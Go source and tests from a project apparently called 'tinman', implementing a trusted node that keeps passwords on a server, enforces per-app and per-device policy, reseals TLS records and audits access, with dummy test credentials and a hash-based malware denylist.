			warmHits:      m.Counter("tinman_warm_hits_total"),
			warmMisses:    m.Counter("tinman_warm_misses_total"),
			warmChunks:    m.Counter("tinman_warmup_chunks_total"),
		}
		// The engine keeps its own per-reason denial counters below the
		// service-level totals.
		s.Policy.SetMetrics(m)
	}
	if opts.MalwareSeed >= 0 {
		seed := opts.MalwareSeed
		if seed == 0 {
			seed = 1000
		}
		s.Malware.SeedSynthetic(seed)
	}
	s.Policy.SetMalwareCheck(s.Malware.Contains)
	return s
}

// --- cor administration (the safe-environment setup of §2.3) ---

// RegisterCor initializes a cor with known plaintext, wiring its whitelist
// into the policy engine.
func (s *Service) RegisterCor(ctx context.Context, id, plaintext, description string, whitelist ...string) (*cor.Record, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	rec, err := s.Cors.Register(id, plaintext, description, whitelist...)
	if err != nil {
		return nil, badRequest(err)
	}
	if whitelist != nil {
		s.Policy.SetWhitelist(rec.ID, whitelist)
	}
	if err := s.durVaultRec(rec.ID); err != nil {
		return nil, err
	}
	return rec, nil
}

// GenerateCor mints a fresh random cor of length n on the node ("Generate
// New Password", §5.4); the plaintext never leaves the Service.
func (s *Service) GenerateCor(ctx context.Context, id, description string, n int, whitelist ...string) (*cor.Record, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	rec, err := s.Cors.GenerateNew(id, description, n, whitelist...)
	if err != nil {
		return nil, badRequest(err)
	}
	if whitelist != nil {
		s.Policy.SetWhitelist(rec.ID, whitelist)
	}
	if err := s.durVaultRec(rec.ID); err != nil {
		return nil, err
	}
	return rec, nil
}

// DeriveNamed registers a node-computed derivation of an existing cor. The
// derived plaintext is computed here from the parent — a device never
// supplies secret content (e.g. the sha256-hex password hash of §4.1).
func (s *Service) DeriveNamed(ctx context.Context, parentID, newID, derivation string) (*cor.Record, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	parent := s.Cors.Get(parentID)
	if parent == nil {
		return nil, errf(ErrUnknownCor, "unknown parent cor %q", parentID)
	}
	var content string
	switch derivation {
	case "", "sha256-hex":
		content = sha256hex(parent.Plaintext)
	default:
		return nil, errf(ErrBadRequest, "unknown derivation %q", derivation)
	}
	rec, err := s.Cors.Derive(parentID, newID, content)
	if err != nil {
		return nil, badRequest(err)
	}
	if err := s.durVaultRec(rec.ID); err != nil {
		return nil, err
	}
	return rec, nil
}

// Catalog returns the device-visible cor metadata (the selection-widget
// content, §4.1). The underlying store returns a stable snapshot slice, so
// transports may cache conversions keyed on slice identity.
func (s *Service) Catalog(ctx context.Context) ([]cor.DeviceView, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return s.Cors.DeviceViews(), nil
}

// --- policy administration ---

// BindApp restricts a cor to an app hash (§3.4 first binding). With a
// store attached, the binding is fsynced before it is acknowledged.
func (s *Service) BindApp(corID, appHash string) error {
	s.Policy.BindApp(corID, appHash)
	return s.durPolicy(store.PolicyOp{Op: store.PolicyBind, CorID: corID, AppHash: appHash})
}

// Revoke cuts off a device ("if a user realizes her phone is stolen", §3.4).
func (s *Service) Revoke(deviceID string) error {
	s.Policy.Revoke(deviceID)
	return s.durPolicy(store.PolicyOp{Op: store.PolicyRevoke, DeviceID: deviceID})
}

// Restore re-enables a device.
func (s *Service) Restore(deviceID string) error {
	s.Policy.Restore(deviceID)
	return s.durPolicy(store.PolicyOp{Op: store.PolicyRestore, DeviceID: deviceID})
}

// InstallPolicy validates and atomically installs a whole-policy snapshot
// (the control plane's hot-reload). With a store attached, the accepted
// document is WAL-logged and fsynced before the new stamp is returned, so
// a restart recovers the last accepted version.
func (s *Service) InstallPolicy(ctx context.Context, snap *policy.Snapshot) (policy.Stamp, error) {
	if err := ctx.Err(); err != nil {
		return policy.Stamp{}, err
	}
	if snap == nil {
		return policy.Stamp{}, errf(ErrBadRequest, "nil policy snapshot")
	}
	stamp, err := s.Policy.Install(snap)
	if err != nil {
		return policy.Stamp{}, badRequest(err)
	}
	raw, merr := json.Marshal(snap)
	if merr != nil {
		return policy.Stamp{}, errf(ErrBadRequest, "encoding policy snapshot: %v", merr)
	}
	if derr := s.durPolicy(store.PolicyOp{Op: store.PolicySnapshot, Version: snap.Version, Snapshot: raw}); derr != nil {
		return policy.Stamp{}, derr
	}
	return stamp, nil
}

// SetCorClass reassigns a cor's sensitivity tier. With a store attached the
// reclassified record is re-logged (vault records are upserts), so the
// class survives restarts.
func (s *Service) SetCorClass(ctx context.Context, corID string, class cor.Class) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	if err := s.Cors.SetClass(corID, class); err != nil {
		return badRequest(err)
	}
	return s.durVaultRec(corID)
}

// --- audit ---

// AuditQuery returns matching audit entries.
func (s *Service) AuditQuery(ctx context.Context, q audit.Query) ([]audit.Entry, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return s.Audit.Find(q), nil
}

// lineageID maps a cor to the ID its policy rules are registered under:
// a derived cor (the concatenated request of fig 11) carries its parent's
// taint bit, and bindings/whitelists are registered on the parent.
func (s *Service) lineageID(rec *cor.Record) string {
	if parent := s.Cors.ByBit(rec.Bit); parent != nil {
		return parent.ID
	}
	return rec.ID
}

// checkSend runs the send-time policy check (§3.4 second binding) for a
// cor's lineage and writes the audit entry for a denial. The decision is
// attributed as a policy_check child of whatever span rides on ctx. The
// returned stamp names the exact policy version consulted; callers pass it
// to auditAppendStamped so the allowed-path entry carries the same version
// even if a hot-reload lands in between.
func (s *Service) checkSend(ctx context.Context, rec *cor.Record, appHash, deviceID, domain, ip string) (checkID string, stamp policy.Stamp, err error) {
	checkID = s.lineageID(rec)
	var span *obs.Span
	if parent := obs.SpanFromContext(ctx); parent != nil {
		span = parent.Child(obs.PhasePolicyCheck,
			obs.Cor(checkID), obs.App(appHash), obs.Domain(domain))
	}
	s.met.policyChecks.Inc()
	acc := policy.Access{
		CorID:    checkID,
		AppHash:  appHash,
		DeviceID: deviceID,
		Class:    rec.Class,
		Send:     true,
		Domain:   domain,
		IP:       ip,
	}
	stamp, perr := s.Policy.CheckStamped(acc)
	if perr != nil {
		s.met.policyDenials.Inc()
		if aerr := s.auditAppendStamped(stamp, appHash, checkID, deviceID, domain, audit.OutcomeDenied, perr.Error()); aerr != nil {
			span.End()
			return checkID, stamp, aerr
		}
		if d, ok := policy.IsDenial(perr); ok {
			span.Add(obs.Outcome(false), obs.Reason(d.Reason.String()))
			span.End()
			return checkID, stamp, denied(d)
		}
		span.Add(obs.Outcome(false), obs.Err(obs.ErrBadRequest))
		span.End()
		return checkID, stamp, badRequest(perr)
	}
	span.Add(obs.Outcome(true))
	span.End()
	return checkID, stamp, nil
}
