package node

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"hash/maphash"
	"sync"

	"tinman/internal/audit"
	"tinman/internal/obs"
	"tinman/internal/tlssim"
)

// ResealRequest carries one payload-replacement request: given a device's
// exported session state and a cor, produce the record the trusted node
// sends on the device's behalf (§3.2–§3.3).
type ResealRequest struct {
	CorID    string
	AppHash  string
	DeviceID string
	Domain   string
	TargetIP string
	// State is the device's exported tlssim session state, still marshaled
	// so the Service can memoize parses across identical re-sends.
	State json.RawMessage
	// RecordLen is the length of the placeholder-bearing record the device
	// would have sent; a non-zero value is verified so the replacement never
	// desynchronizes TCP sequence numbers. 0 skips the check.
	RecordLen int
}

// Reseal checks policy for the cor's lineage, joins the session, and seals
// the cor plaintext into a wire record.
func (s *Service) Reseal(ctx context.Context, req ResealRequest) ([]byte, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	rec := s.Cors.Get(req.CorID)
	if rec == nil {
		return nil, errf(ErrUnknownCor, "unknown cor %q", req.CorID)
	}
	sh, err := s.shardEnter(req.DeviceID)
	if err != nil {
		return nil, err
	}
	defer sh.exit()
	checkID, stamp, err := s.checkSend(ctx, rec, req.AppHash, req.DeviceID, req.Domain, req.TargetIP)
	if err != nil {
		return nil, err
	}
	st, ok := sh.states.get(req.State)
	if !ok {
		st, err = tlssim.UnmarshalState(req.State)
		if err != nil {
			return nil, errf(ErrBadRequest, "bad session state: %v", err)
		}
		sh.states.put(req.State, st)
	}
	// The modified client library refuses TLS 1.0 before ever reaching this
	// point; the node double-checks (defense in depth, §3.2).
	if st.Version <= tlssim.TLS10 {
		if aerr := s.auditAppendStamped(stamp, req.AppHash, checkID, req.DeviceID, req.Domain, audit.OutcomeDenied, "TLS1.0 session refused"); aerr != nil {
			return nil, aerr
		}
		return nil, errf(ErrWeakTLS, "refusing %v session: implicit-IV state sync leaks plaintext (fig 7)", st.Version)
	}
	// The vault_open span brackets the only stretch where cor plaintext is
	// live outside the store; the span itself carries nothing but the cor ID
	// and output size (typed fields — plaintext is unrepresentable).
	var vspan *obs.Span
	if parent := obs.SpanFromContext(ctx); parent != nil {
		vspan = parent.Child(obs.PhaseVaultOpen, obs.Cor(checkID))
		vspan.Add(st.ObsFields()...)
	}
	s.met.vaultOpens.Inc()
	sess, err := tlssim.Resume(st, nil)
	if err != nil {
		vspan.Add(obs.Err(obs.ErrBadRequest))
		vspan.End()
		return nil, errf(ErrBadRequest, "resuming session: %v", err)
	}
	out, err := sess.Seal(tlssim.TypeApplicationData, []byte(rec.Plaintext))
	if err != nil {
		vspan.Add(obs.Err(obs.ErrBadRequest))
		vspan.End()
		return nil, errf(ErrBadRequest, "sealing: %v", err)
	}
	vspan.Add(obs.Bytes(len(out)))
	vspan.End()
	if req.RecordLen > 0 && len(out) != req.RecordLen {
		return nil, errf(ErrRecordLength, "resealed record %dB != placeholder record %dB (would desynchronize TCP)", len(out), req.RecordLen)
	}
	if aerr := s.auditAppendStamped(stamp, req.AppHash, checkID, req.DeviceID, req.Domain, audit.OutcomeAllowed, "record resealed"); aerr != nil {
		return nil, aerr
	}
	return out, nil
}

// stateCache memoizes parsed session states. A device re-sends the
// identical exported state for every record it offloads on a connection
// (§3.4), so without the cache the node re-parses the same multi-kilobyte
// blob on every reseal. Entries are keyed by a hash of the raw bytes with
// full byte equality checked on hit — a hash collision can evict, never
// confuse states. tlssim.Resume copies all key material out of a State, so
// a cached *State is shared read-only across reseals.
type stateCache struct {
	mu sync.Mutex
	m  map[uint64]stateEntry
}

type stateEntry struct {
	raw []byte
	st  *tlssim.State
}

// stateCacheMax bounds the cache; when full it is cleared rather than
// tracking recency — one miss per distinct state per generation is cheap,
// an eviction policy on this path is not.
const stateCacheMax = 256

var stateHashSeed = maphash.MakeSeed()

func (c *stateCache) get(raw []byte) (*tlssim.State, bool) {
	h := maphash.Bytes(stateHashSeed, raw)
	c.mu.Lock()
	defer c.mu.Unlock()
	e, ok := c.m[h]
	if !ok || !bytes.Equal(e.raw, raw) {
		return nil, false
	}
	return e.st, true
}

// len reports the number of cached states (shard introspection and the
// detach-eviction regression test).
func (c *stateCache) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.m)
}

func (c *stateCache) put(raw []byte, st *tlssim.State) {
	h := maphash.Bytes(stateHashSeed, raw)
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.m == nil || len(c.m) >= stateCacheMax {
		c.m = make(map[uint64]stateEntry)
	}
	c.m[h] = stateEntry{raw: append([]byte(nil), raw...), st: st}
}

// sha256hex is the standard derivation used for node-computed cors.
func sha256hex(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}
