package node

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"tinman/internal/audit"
	"tinman/internal/cor"
	"tinman/internal/dsm"
	"tinman/internal/policy"
	"tinman/internal/taint"
	"tinman/internal/tlssim"
	"tinman/internal/vm"
	"tinman/internal/vm/asm"
)

// loginSrc is the paper's running example (fig 5 / fig 11): hash the
// password, concatenate the request. The strcat chain mints a derived cor
// on the node, exercising the masked-return path.
const loginSrc = `
class Bank
  method login 2 8          ; r0 = account, r1 = passwd
    hash r2, r1
    conststr r3, "user="
    strcat r4, r3, r0
    conststr r5, "&hash="
    strcat r6, r4, r5
    strcat r7, r6, r2
    return r7
  end
end`

// loginSrcB is a behaviorally equivalent variant with a different dex hash,
// so two devices can install "the same app name, different binary".
const loginSrcB = `
class Bank
  method login 2 9          ; r0 = account, r1 = passwd
    hash r2, r1
    conststr r3, "user="
    strcat r4, r3, r0
    conststr r5, "&hash="
    strcat r6, r4, r5
    strcat r7, r6, r2
    const r8, 1
    return r7
  end
end`

// deviceHalf is a minimal device: its own VM (odd heap IDs, asymmetric
// tainting) and DSM endpoint, resolving cors to placeholders only.
type deviceHalf struct {
	id          string
	prog        *vm.Program
	vm          *vm.VM
	ep          *dsm.Endpoint
	lastTrigger taint.Tag
}

// deviceResolver serves placeholders; it can never mint cor IDs.
type deviceResolver struct{ store *cor.Store }

func (r *deviceResolver) Fill(id string, length int) (string, taint.Tag, bool) {
	for _, v := range r.store.DeviceViews() {
		if v.ID == id {
			return v.Placeholder, taint.Bit(v.Bit), true
		}
	}
	return cor.Placeholder(id, length), taint.None, true
}

func (r *deviceResolver) MaskID(o *vm.Object) string { return "" }

func newDeviceHalf(t testing.TB, svc *Service, deviceID, appName, src string) *deviceHalf {
	t.Helper()
	prog, err := asm.Assemble(appName, src)
	if err != nil {
		t.Fatal(err)
	}
	machine := vm.New(vm.Config{Program: prog, Heap: vm.NewHeap(1, 2), Policy: taint.Asymmetric})
	d := &deviceHalf{
		id:   deviceID,
		prog: prog,
		vm:   machine,
		ep:   dsm.NewEndpoint(dsm.DeviceSide, machine, &deviceResolver{store: svc.Cors}),
	}
	machine.Hooks.OnTaintedAccess = func(tag taint.Tag, ev taint.Event) bool {
		d.lastTrigger = tag
		return true
	}
	return d
}

// install registers the device's app with the service and returns its hash.
func (d *deviceHalf) install(t testing.TB, svc *Service, src string) string {
	t.Helper()
	res, err := svc.Install(context.Background(), InstallRequest{
		DeviceID: d.id, Name: "login", Source: src,
		NonOffloadableNatives: []string{"ui_notify"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return res.Hash
}

// login runs one offload round against the service: touch the placeholder
// on the device, migrate, let the node run the login, apply the reply. The
// returned object is the device's (masked) view of the request string.
func (d *deviceHalf) login(t testing.TB, svc *Service, corID string) (*vm.Object, error) {
	t.Helper()
	views, err := svc.Catalog(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var view cor.DeviceView
	for _, v := range views {
		if v.ID == corID {
			view = v
		}
	}
	if view.ID == "" {
		t.Fatalf("cor %s not in catalog", corID)
	}
	placeholder := d.vm.NewTaintedString(view.Placeholder, taint.Bit(view.Bit))
	placeholder.CorID = view.ID
	account := d.vm.NewString("alice")
	th, err := d.vm.NewThread(d.prog.Method("Bank", "login"), vm.RefVal(account), vm.RefVal(placeholder))
	if err != nil {
		t.Fatal(err)
	}
	stop, err := th.Run()
	if err != nil || stop != vm.StopMigrateTaint {
		t.Fatalf("device run: stop=%v err=%v", stop, err)
	}
	mig, err := d.ep.CaptureMigration(th, stop)
	if err != nil {
		t.Fatal(err)
	}
	mig.TriggerTag = uint64(d.lastTrigger)
	res, err := svc.Offload(context.Background(), d.id, "login", mig.Encode())
	if err != nil {
		return nil, err
	}
	back, err := dsm.DecodeMigration(res.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.ep.ApplyMigration(back); err != nil {
		t.Fatal(err)
	}
	out, err := d.ep.DecodeResult(back)
	if err != nil {
		t.Fatal(err)
	}
	if out.Ref == nil {
		t.Fatal("no result object")
	}
	return out.Ref, nil
}

// sessionState returns a marshaled TLS ≥1.1 session state plus the origin
// session that can open node-sealed records.
func sessionState(t testing.TB) (json.RawMessage, *tlssim.Session) {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	cs, ss, _, err := tlssim.Handshake(tlssim.ClientConfig{MinVersion: tlssim.TLS11}, tlssim.ServerConfig{Key: key})
	if err != nil {
		t.Fatal(err)
	}
	raw, err := json.Marshal(cs.Export())
	if err != nil {
		t.Fatal(err)
	}
	return raw, ss
}

// TestMultiDeviceIsolation is the multi-tenancy check: two devices install
// the same app name with different binaries, each bound to its own cor;
// policy decisions, offload hosting and audit attribution must stay
// per-device, including through a mid-run revocation.
func TestMultiDeviceIsolation(t *testing.T) {
	ctx := context.Background()
	svc := New(Options{})

	if _, err := svc.RegisterCor(ctx, "pw-a", "hunter2!", "device A's bank password", "bank-a.com"); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.RegisterCor(ctx, "pw-b", "letmein1", "device B's bank password", "bank-b.com"); err != nil {
		t.Fatal(err)
	}

	devA := newDeviceHalf(t, svc, "dev-a", "login", loginSrc)
	devB := newDeviceHalf(t, svc, "dev-b", "login", loginSrcB)
	hashA := devA.install(t, svc, loginSrc)
	hashB := devB.install(t, svc, loginSrcB)
	if hashA == hashB {
		t.Fatal("test needs two distinct app binaries")
	}
	svc.BindApp("pw-a", hashA)
	svc.BindApp("pw-b", hashB)

	// Both devices see the full catalog; isolation is enforced by policy,
	// not by hiding entries.
	views, err := svc.Catalog(ctx)
	if err != nil || len(views) != 2 {
		t.Fatalf("catalog = %v, %v", views, err)
	}

	// Each device offloads against its own cor. The result that lands on the
	// device is a masked derived cor whose lineage names the right parent —
	// plaintext never leaves the node.
	reqA, err := devA.login(t, svc, "pw-a")
	if err != nil {
		t.Fatalf("device A offload: %v", err)
	}
	if !strings.HasPrefix(reqA.CorID, "derived-pw-a") {
		t.Fatalf("device A derived cor = %q", reqA.CorID)
	}
	if strings.Contains(reqA.Str, "hunter2") {
		t.Fatal("SECURITY: device A saw plaintext")
	}
	reqB, err := devB.login(t, svc, "pw-b")
	if err != nil {
		t.Fatalf("device B offload: %v", err)
	}
	if !strings.HasPrefix(reqB.CorID, "derived-pw-b") {
		t.Fatalf("device B derived cor = %q", reqB.CorID)
	}

	// Cross-device access: device B's binary touching device A's cor is
	// refused by the app binding, and the denial is attributed to B.
	if _, err := devB.login(t, svc, "pw-a"); !errors.Is(err, ErrDenied) {
		t.Fatalf("cross-device access: err = %v, want ErrDenied", err)
	}

	// Mid-run revocation of device B must not disturb device A.
	svc.Revoke("dev-b")
	if _, err := devB.login(t, svc, "pw-b"); !errors.Is(err, ErrRevoked) {
		t.Fatalf("revoked device B: err = %v, want ErrRevoked", err)
	}
	if _, err := devA.login(t, svc, "pw-a"); err != nil {
		t.Fatalf("device A after revoking B: %v", err)
	}
	svc.Restore("dev-b")
	if _, err := devB.login(t, svc, "pw-b"); err != nil {
		t.Fatalf("device B after restore: %v", err)
	}

	// Audit attribution: each device's trail mentions only itself, and the
	// cross-device denial plus the revocation denial landed on dev-b.
	forA, err := svc.AuditQuery(ctx, audit.Query{DeviceID: "dev-a"})
	if err != nil || len(forA) == 0 {
		t.Fatalf("audit for dev-a: %v, %v", forA, err)
	}
	for _, e := range forA {
		if e.DeviceID != "dev-a" {
			t.Fatalf("dev-a query returned entry for %q", e.DeviceID)
		}
		if e.Outcome == audit.OutcomeDenied {
			t.Fatalf("device A was denied: %+v", e)
		}
	}
	forB, err := svc.AuditQuery(ctx, audit.Query{DeviceID: "dev-b"})
	if err != nil {
		t.Fatal(err)
	}
	var denials int
	for _, e := range forB {
		if e.DeviceID != "dev-b" {
			t.Fatalf("dev-b query returned entry for %q", e.DeviceID)
		}
		if e.Outcome == audit.OutcomeDenied {
			denials++
		}
	}
	if denials < 2 {
		t.Fatalf("dev-b denials = %d, want the binding refusal and the revocation", denials)
	}
}

// TestErrorTaxonomy pins the sentinel and errors.As behavior of every
// service error class.
func TestErrorTaxonomy(t *testing.T) {
	ctx := context.Background()
	svc := New(Options{})
	state, origin := sessionState(t)

	if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "bank password", "bank.com"); err != nil {
		t.Fatal(err)
	}

	// Unknown cor.
	_, err := svc.Reseal(ctx, ResealRequest{CorID: "nope", DeviceID: "d1", State: state})
	if !errors.Is(err, ErrUnknownCor) || errors.Is(err, ErrDenied) {
		t.Fatalf("unknown cor: %v", err)
	}

	// Plain policy denial (app not bound) carries ErrDenied plus the
	// extractable *policy.Denial.
	svc.BindApp("pw", "the-right-app")
	_, err = svc.Reseal(ctx, ResealRequest{CorID: "pw", AppHash: "wrong-app", DeviceID: "d1", Domain: "bank.com", State: state})
	if !errors.Is(err, ErrDenied) || errors.Is(err, ErrRevoked) {
		t.Fatalf("unbound app: %v", err)
	}
	var d *policy.Denial
	if !errors.As(err, &d) || d.Reason != policy.ReasonAppNotBound {
		t.Fatalf("denial not extractable: %v", err)
	}

	// Revocation gets its own sentinel and still matches ErrDenied.
	svc.Revoke("d1")
	_, err = svc.Reseal(ctx, ResealRequest{CorID: "pw", AppHash: "the-right-app", DeviceID: "d1", Domain: "bank.com", State: state})
	if !errors.Is(err, ErrRevoked) || !errors.Is(err, ErrDenied) {
		t.Fatalf("revoked: %v", err)
	}
	svc.Restore("d1")

	// A good reseal still works and the origin can open it.
	rec, err := svc.Reseal(ctx, ResealRequest{CorID: "pw", AppHash: "the-right-app", DeviceID: "d1", Domain: "bank.com", State: state})
	if err != nil {
		t.Fatal(err)
	}
	if _, plaintext, _, err := origin.Open(rec); err != nil || string(plaintext) != "hunter2!" {
		t.Fatalf("origin open: %q, %v", plaintext, err)
	}

	// Record-length mismatch.
	_, err = svc.Reseal(ctx, ResealRequest{CorID: "pw", AppHash: "the-right-app", DeviceID: "d1", Domain: "bank.com", State: state, RecordLen: 5})
	if !errors.Is(err, ErrRecordLength) {
		t.Fatalf("length mismatch: %v", err)
	}

	// TLS 1.0 session state is refused with ErrWeakTLS.
	key, _ := rsa.GenerateKey(rand.Reader, 1024)
	cs10, _, _, err := tlssim.Handshake(
		tlssim.ClientConfig{MaxVersion: tlssim.TLS10, Suites: []tlssim.Suite{tlssim.SuiteAESCBCSHA256}},
		tlssim.ServerConfig{MaxVersion: tlssim.TLS10, Key: key})
	if err != nil {
		t.Fatal(err)
	}
	raw10, _ := json.Marshal(cs10.Export())
	_, err = svc.Reseal(ctx, ResealRequest{CorID: "pw", AppHash: "the-right-app", DeviceID: "d1", Domain: "bank.com", State: raw10})
	if !errors.Is(err, ErrWeakTLS) {
		t.Fatalf("TLS1.0: %v", err)
	}

	// Malware install gets ErrMalware and ErrDenied.
	prog, err := asm.Assemble("mal", loginSrc)
	if err != nil {
		t.Fatal(err)
	}
	svc.Malware.Add(prog.Hash(), "TestTrojan")
	_, err = svc.Install(ctx, InstallRequest{DeviceID: "d1", Name: "mal", Source: loginSrc})
	if !errors.Is(err, ErrMalware) || !errors.Is(err, ErrDenied) {
		t.Fatalf("malware install: %v", err)
	}

	// Unknown app on offload.
	_, err = svc.Offload(ctx, "d1", "ghost", nil)
	if !errors.Is(err, ErrUnknownApp) {
		t.Fatalf("unknown app: %v", err)
	}

	// Unarmed payload replacement.
	_, err = svc.ReplacePayload(ctx, InjectionKey{ClientAddr: "10.0.0.2", ClientPort: 1}, 10)
	if !errors.Is(err, ErrNoInjection) {
		t.Fatalf("no injection: %v", err)
	}

	// Wire-carried denial text still matches the sentinel.
	if err := error(Denied("policy: x denied: something")); !errors.Is(err, ErrDenied) {
		t.Fatal("Denied() lost the sentinel")
	}
}

// TestContextCancellation: a cancelled context short-circuits every service
// entry point without touching state.
func TestContextCancellation(t *testing.T) {
	svc := New(Options{})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	if _, err := svc.RegisterCor(ctx, "pw", "x", "d"); !errors.Is(err, context.Canceled) {
		t.Fatalf("RegisterCor: %v", err)
	}
	if _, err := svc.Catalog(ctx); !errors.Is(err, context.Canceled) {
		t.Fatalf("Catalog: %v", err)
	}
	if _, err := svc.Reseal(ctx, ResealRequest{CorID: "pw"}); !errors.Is(err, context.Canceled) {
		t.Fatalf("Reseal: %v", err)
	}
	if _, err := svc.Offload(ctx, "d", "a", nil); !errors.Is(err, context.Canceled) {
		t.Fatalf("Offload: %v", err)
	}
	if err := svc.ArmInjection(ctx, InjectRequest{}); !errors.Is(err, context.Canceled) {
		t.Fatalf("ArmInjection: %v", err)
	}
	if svc.Cors.Len() != 0 {
		t.Fatal("cancelled call mutated the vault")
	}
}

// TestInjectionRoundTrip drives ArmInjection + ReplacePayload through the
// service (the fig 8 flow without the TCP simulation).
func TestInjectionRoundTrip(t *testing.T) {
	ctx := context.Background()
	svc := New(Options{})
	state, origin := sessionState(t)

	if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "bank password", "bank.com"); err != nil {
		t.Fatal(err)
	}
	dev := newDeviceHalf(t, svc, "dev-1", "login", loginSrc)
	hash := dev.install(t, svc, loginSrc)
	svc.BindApp("pw", hash)

	key := InjectionKey{ClientAddr: "10.0.0.2", ClientPort: 40000, ServerAddr: "203.0.113.5", ServerPort: 443}
	err := svc.ArmInjection(ctx, InjectRequest{
		DeviceID: "dev-1", App: "login", CorID: "pw", Domain: "bank.com", Key: key, State: state,
	})
	if err != nil {
		t.Fatal(err)
	}
	// Learn the replacement length from a probe seal of the placeholder.
	views, _ := svc.Catalog(ctx)
	probe, err := tlssim.Resume(mustState(t, state), nil)
	if err != nil {
		t.Fatal(err)
	}
	probeRec, err := probe.Seal(tlssim.TypeApplicationData, []byte(views[0].Placeholder))
	if err != nil {
		t.Fatal(err)
	}
	out, err := svc.ReplacePayload(ctx, key, len(probeRec))
	if err != nil {
		t.Fatal(err)
	}
	if _, plaintext, _, err := origin.Open(out); err != nil || string(plaintext) != "hunter2!" {
		t.Fatalf("origin open: %q, %v", plaintext, err)
	}
	// One-shot: the second replacement on the same flow must fail.
	if _, err := svc.ReplacePayload(ctx, key, len(probeRec)); !errors.Is(err, ErrNoInjection) {
		t.Fatalf("second replacement: %v", err)
	}
}

func mustState(t testing.TB, raw json.RawMessage) *tlssim.State {
	t.Helper()
	st, err := tlssim.UnmarshalState(raw)
	if err != nil {
		t.Fatal(err)
	}
	return st
}
