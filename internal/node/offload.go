package node

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"sync"

	"tinman/internal/audit"
	"tinman/internal/dsm"
	"tinman/internal/monitor"
	"tinman/internal/obs"
	"tinman/internal/policy"
	"tinman/internal/taint"
	"tinman/internal/tlssim"
	"tinman/internal/vm"
	"tinman/internal/vm/asm"
)

// AppKey identifies one installed app: the same app name installed by two
// devices is two independent node-side VMs.
type AppKey struct {
	DeviceID string
	Name     string
}

// hostedApp is the trusted node's half of an installed application.
type hostedApp struct {
	key  AppKey
	prog *vm.Program
	hash string
	// source and natives retain the install inputs so a shard export can
	// re-install the app bit-identically on another node.
	source  string
	natives []string
	// runMu serializes offloaded execution on the app's VM: the VM and its
	// DSM endpoint are single-threaded state, while the Service is not.
	runMu   sync.Mutex
	machine *vm.VM
	ep      *dsm.Endpoint
	locks   *dsm.LockTable
	// mon is the per-app dynamic-analysis monitor (§3.4/§8 extension).
	mon *monitor.Monitor
}

// InstallRequest is the node half of app installation (the warm-up dex
// transfer, §6.2).
type InstallRequest struct {
	DeviceID string
	Name     string
	Source   string
	// NonOffloadableNatives lists device-only native methods; the node
	// installs failing stubs plus a gate so touching one forces a migration
	// back to the device (§3.1 case 2).
	NonOffloadableNatives []string
}

// InstallResult reports the verified program's identity and size (the
// transport models transfer/assembly cost from CodeSize).
type InstallResult struct {
	Hash     string
	CodeSize int
}

// buildApp assembles, verifies and malware-checks the program, then
// provisions the per-app VM, monitor and DSM endpoint. It is the shared
// core of Install and ImportShard; it touches no shard state.
func (s *Service) buildApp(req InstallRequest) (*hostedApp, error) {
	prog, err := asm.Assemble(req.Name, req.Source)
	if err != nil {
		return nil, errf(ErrBadRequest, "assembling %s: %v", req.Name, err)
	}
	// Defense in depth: the node re-verifies the bytecode it is about to
	// host, independent of the device's assembler.
	if err := prog.Verify(); err != nil {
		return nil, errf(ErrBadRequest, "%s failed verification: %v", req.Name, err)
	}
	hash := prog.Hash()
	if s.Malware.Contains(hash) {
		family := s.Malware.Family(hash)
		if aerr := s.auditAppend(hash, "", req.DeviceID, "", audit.OutcomeDenied, "malware: "+family); aerr != nil {
			return nil, aerr
		}
		return nil, denied(&policy.Denial{Reason: policy.ReasonMalware, Detail: family})
	}

	machine := vm.New(vm.Config{
		Program:       prog,
		Heap:          vm.NewHeap(2, 2), // even IDs: the node's ID space
		Policy:        taint.Full,
		CorIdleWindow: s.corIdleWindow,
	})
	registerNativeStubs(machine, req.NonOffloadableNatives)
	key := AppKey{DeviceID: req.DeviceID, Name: req.Name}
	app := &hostedApp{
		key: key, prog: prog, hash: hash, machine: machine,
		source:  req.Source,
		natives: append([]string(nil), req.NonOffloadableNatives...),
	}
	app.mon = monitor.New(monitor.Config{
		OnFinding: func(f monitor.Finding) {
			// Findings fire mid-execution with no caller to fail; a durable
			// store failure is sticky and surfaces on the next acknowledged
			// operation instead.
			_ = s.auditAppend(hash, "", req.DeviceID, "", audit.OutcomeDenied, "monitor: "+f.String())
		},
	})
	app.mon.Attach(machine)
	app.ep = dsm.NewEndpoint(dsm.NodeSide, machine, &corResolver{svc: s, deviceID: req.DeviceID})
	app.ep.Restricted = s.Cors.RestrictedMask()
	return app, nil
}

// denyRestricted maps a dsm.ErrRestricted violation (server-only tainted
// state in a DSM payload) to the corresponding policy denial, with an audit
// entry; any other error surfaces as a plain bad request.
func (s *Service) denyRestricted(err error, appHash, deviceID string) error {
	if !errors.Is(err, dsm.ErrRestricted) {
		return badRequest(err)
	}
	if aerr := s.auditAppend(appHash, "", deviceID, "", audit.OutcomeDenied, err.Error()); aerr != nil {
		return aerr
	}
	return denied(&policy.Denial{Reason: policy.ReasonServerOnlyClass, Detail: err.Error()})
}

// Install assembles and verifies the app on the node and runs the malware
// check, then hosts it in the device's shard.
func (s *Service) Install(ctx context.Context, req InstallRequest) (*InstallResult, error) {
